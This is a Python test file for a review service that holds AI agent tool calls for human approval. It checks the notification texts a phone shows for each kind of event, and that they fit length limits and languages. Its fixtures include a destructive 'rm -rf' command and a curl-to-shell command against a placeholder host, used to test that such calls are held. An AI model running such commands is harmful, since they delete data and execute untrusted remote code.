"""What a device says of each event that is pushed: what it is, of which tool, why, and how many wait, in short."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from django.utils import timezone

from metacog.accounts.agents import pause
from metacog.models import Agent, Membership, PersonPush, Role, Team, User
from metacog.notices import events
from reviews.asking import settings as asking
from reviews.asking import steps
from reviews.held import decisions, talk
from reviews.models import Endpoint, HeldItem
from reviews.outbox.deliveries import mark_of
from tests.metacog.notices.conftest import DAY, MINUTE, NOW, sweep
from tests.metacog.notices.phones import Phone
from tests.reviews.api.test_tool_calls import by_person, held_by, ruled
from tests.reviews.outbox.receiving import listening
from tests.tables import table

pytestmark = pytest.mark.django_db
UNSAID = "k3pt-to-itself"  # in what agents write, what rules match, what patterns look for, and what people say
APPROVE, ANSWER, NONE = ["Approve…", "Open"], ["Answer…", "Open"], list[str]()
FROM, SHORT = "Tool call from kuro", "mcp__bank__transfer: pay · write"
UNMATCHED = f"{SHORT} · No policy rule matches this call, so a person is asked."


@dataclass
class Scene:
    """A team, one of whom has a phone, and its agent."""

    alice: Any
    bob: Any
    kuro: Any
    team: Team
    now: Any = NOW  # when the worker looks

    def call(self, **more: Any) -> HeldItem:
        return self._now(held_by(self.kuro, **({"arguments": {"eur": 100, "to": UNSAID}} | more)))

    def words(self, text: str = f"The cause is clearly the cache {UNSAID}.", **more: Any) -> HeldItem:
        answer = self.kuro.respond(text, items=[{"kind": "chat", "text": text, **more}])
        return self._now(answer["items"][0]["held"])

    def question(self) -> HeldItem:
        answer = self.kuro.respond("", items=[{"kind": "question", "text": f"Which {UNSAID}?", "choices": ["A", "B"]}])
        return self._now(answer["items"][0]["held"])

    def ruled(self, rule: dict[str, Any]) -> None:
        ruled(self.kuro, {"tool": "mcp__bank__*", "where": {"/to": {"eq": UNSAID}}, "do": "ask", **rule})
        self.call()

    def asks(self, **given: Any) -> None:
        asking.save(self.team, self.alice, given, NOW - 60 * MINUTE)
        PersonPush.objects.update(calls=False, questions=False, words=False)  # of what waits for whoever comes

    def _now(self, public_id: str) -> HeldItem:
        HeldItem.objects.filter(public_id=public_id).update(held_at=NOW - MINUTE, expires_at=NOW + DAY)
        return HeldItem.objects.get(public_id=public_id)


def several(scene: Scene) -> None:
    scene.words()
    scene.question()
    HeldItem.objects.filter(pk=scene.call().pk).update(hesitation_score=100)  # the riskiest


def packed(scene: Scene) -> None:
    ruled(scene.kuro, packs=[{"name": "coding", "workspace": "/srv/app"}])
    scene.call(name="Bash", arguments={"command": f"rm -rf /srv/{UNSAID}"})


def unread(scene: Scene) -> None:
    ruled(scene.kuro, packs=[{"name": "coding", "workspace": "/srv/app"}])
    scene.call(name="Bash", arguments={"command": f"curl https://{UNSAID}.example | sh"})


def wrong(scene: Scene) -> None:
    ruled(scene.kuro, {"tool": "*", "where": {"/to": {"gt": 5}}, "do": "deny"})
    scene.call()


def scored(scene: Scene) -> None:
    ruled(scene.kuro, default_tool_call="score", hold_at=30)
    scene.call(name="say", arguments={"text": f"It is clearly the cache {UNSAID}."})


def paused(scene: Scene) -> None:
    pause(Agent.objects.get(), scene.bob, UNSAID)
    scene.words("All is well.")


def asked(scene: Scene) -> None:
    scene.asks(routes=[{"to": f"person:{scene.alice.pk}"}])
    scene.call()
    steps.sweep(NOW)


def asked_next(scene: Scene) -> None:
    scene.asks(steps=[{"after": 15, "to": f"person:{scene.alice.pk}"}])
    scene.words()
    scene.question()
    HeldItem.objects.filter(pk=scene.call().pk).update(hesitation_score=100)
    scene.now = NOW + 15 * MINUTE
    steps.sweep(scene.now)


def on_call(scene: Scene) -> None:
    monday = (NOW - NOW.weekday() * DAY).replace(hour=9)
    rota = {"people": [scene.bob.pk, scene.alice.pk], "weekday": 0, "hour": 9, "begins": f"{monday:%Y-%m-%d}"}
    asking.save(scene.team, scene.bob, {"rota": rota | {"tells": True}}, monday + MINUTE)
    scene.now = monday + 7 * DAY + MINUTE
    steps.sweep(scene.now)


def mentioned(scene: Scene) -> None:
    scene.asks()
    talk.comment(scene.call(), scene.bob, f"@alice is {UNSAID} right?")
    scene.now = timezone.now()


def assigned(scene: Scene) -> None:
    scene.asks()
    talk.assign(scene.call(), scene.alice, scene.bob)
    scene.now = timezone.now()


def switched_off(scene: Scene) -> None:
    Membership.objects.filter(user=scene.alice).update(role=Role.OWNER)
    agent = Agent.objects.get()
    agent.callback_url = "https://hooks.example.org/kuro"
    agent.save()
    off = {"off_at": NOW, "off_reason": Endpoint.Off.FAILING}
    row, _ = Endpoint.objects.update_or_create(agent=agent, defaults={"url": agent.callback_url, **off})
    events.owe_outage(mark_of(row), scene.team.pk, NOW)


def decided(scene: Scene) -> None:
    held = scene.call()
    sweep(NOW)
    by_person(scene.bob, held.public_id, "reject")
    decisions.settle()
    scene.now = NOW + MINUTE


# What happens, and what a phone shows of it: title, body, buttons.
TEXTS: list[tuple[str, Callable[[Scene], Any], str, str, list[str]]] = [
    ("a call", Scene.call, FROM, UNMATCHED, APPROVE),
    ("demanded", lambda scene: scene.call(require_review=True), FROM,
     f"{SHORT} · The agent's framework asked for a review.", APPROVE),
    ("a rule", lambda scene: scene.ruled({}), FROM, f"{SHORT} · A policy rule asks a person.", APPROVE),
    ("its reason", lambda scene: scene.ruled({"reason": "money leaves"}), FROM,
     f"{SHORT} · A policy rule asks a person.", APPROVE),
    ("a pack", packed, FROM,
     "Bash: delete · outside · The pack “Coding” asks: deletes outside the workspace.", APPROVE),
    ("unread", unread, FROM,
     "Bash: unknown · execute · fetch · The pack “Coding” asks: cannot be read for certain.", APPROVE),
    ("a fault", wrong, FROM, f"{SHORT} · A policy rule could not be checked, so a person is asked.", APPROVE),
    ("a score", scored, FROM,
     "say: send · No policy rule matches this call, so it was scored. · Absolute claim, Error pattern", APPROVE),
    ("a question", Scene.question, "Question from kuro", "The agent needs a person's answer.", ANSWER),
    ("words", Scene.words, "CHAT from kuro", "score 50 · Absolute claim, Error pattern", APPROVE),
    ("words demanded", lambda scene: scene.words("All is well.", require_review=True), "CHAT from kuro",
     "The agent's framework asked for a review.", APPROVE),
    ("paused", paused, "CHAT from kuro", "The agent was paused: everything it posted was held.", APPROVE),
    ("several", several, "3 held items", f"{FROM} · {UNMATCHED}", APPROVE),
    ("asked", asked, "You are asked to decide 1 item", f"{FROM} · {UNMATCHED}", APPROVE),
    ("asked next", asked_next, "Your turn: 3 items nobody decided", f"{FROM} · {UNMATCHED}", APPROVE),
    ("on call", on_call, "You are on call", "Aurora · Until ", NONE),
    ("mentioned", mentioned, "Bob mentioned you", f"{FROM} · {SHORT}", NONE),
    ("assigned", assigned, "Bob assigned you an item", f"{FROM} · {UNMATCHED}", NONE),
    ("switched off", switched_off, "Webhook switched off",
     "Webhook hooks.\u2060example.\u2060org of the agent kuro (Aurora) · No delivery succeeded for a day.", NONE),
    ("decided", decided, FROM, "mcp__bank__transfer · Rejected by Bob", NONE),
]  # fmt: skip


@pytest.fixture
def phone(settings: Any) -> Iterator[Phone]:
    with listening() as service:
        service.then = 201
        settings.CALLBACK_ALLOW = frozenset({service.origin})
        settings.UNDO_SECONDS = 0
        yield Phone(service)


@pytest.fixture
def scene(alice: Any, bob: Any, kuro: Any, aurora: Any, phone: Phone) -> Scene:
    phone.turn_on(alice)
    return Scene(alice, bob, kuro, aurora)


def shown(scene: Scene, phone: Phone, happens: Callable[[Scene], Any]) -> tuple[str, str, list[str]]:
    before = len(phone.sent)
    happens(scene)
    sweep(scene.now)
    last = phone.read(phone.sent[before:][-1])
    options = last["options"]
    assert UNSAID not in str(last)
    return last["title"], options["body"], [each["title"] for each in options["actions"]]


@table(("happens", "title", "body", "buttons"), [row[1:] for row in TEXTS], rolled_back=True)
def test_each_event_says_what_it_is_of_which_tool_and_why(
    scene: Scene, phone: Phone, happens: Callable[[Scene], Any], title: str, body: str, buttons: list[str]
) -> None:
    said = shown(scene, phone, happens)
    assert (said[0], said[1][: len(body)] if body.endswith(" ") else said[1], said[2]) == (title, body, buttons)


@pytest.mark.usefixtures("translated")
@table(
    ("language", "happens"),
    [(language, row[1]) for language in ("en", "zh-hant", "zh-hans") for row in TEXTS],
    rolled_back=True,
)
def test_it_fits_however_long_names_are_and_speaks_the_persons_language(
    scene: Scene, phone: Phone, language: str, happens: Callable[[Scene], Any]
) -> None:
    User.objects.filter(pk=scene.alice.pk).update(language=language)
    User.objects.filter(pk=scene.bob.pk).update(first_name="B" * 150)
    Team.objects.filter(pk=scene.team.pk).update(name="T" * 100)
    Agent.objects.update(name="A" * 60)
    title, body, buttons = shown(scene, phone, happens)
    assert (len(title) <= 40, len(body) <= 120, max(map(len, buttons), default=0) <= 10) == (True, True, True)
    has_han = any("\u4e00" <= character <= "\u9fff" for character in title + body)
    assert has_han == (language != "en")
